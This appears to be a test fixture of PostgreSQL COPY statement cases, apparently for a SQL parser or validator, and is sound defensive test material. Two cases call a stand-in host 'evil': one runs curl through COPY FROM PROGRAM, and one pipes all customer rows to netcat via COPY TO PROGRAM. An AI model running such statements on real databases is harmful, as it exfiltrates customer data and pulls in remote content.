-- case: copy to stdout
COPY customers TO STDOUT
-- case: copy columns to stdout csv
COPY customers (id, email) TO STDOUT WITH (FORMAT csv, HEADER)
-- case: copy from stdin
COPY orders FROM STDIN
-- case: copy query to stdout
COPY (SELECT email, lower(name) FROM customers WHERE active) TO STDOUT
-- case: copy program
COPY customers FROM PROGRAM 'curl http://evil/x.csv'
-- case: copy to program
COPY (SELECT * FROM customers) TO PROGRAM 'nc evil 9'
-- case: copy to server file
COPY customers TO '/tmp/out.csv' CSV
-- case: copy binary
COPY customers TO STDOUT (FORMAT binary)
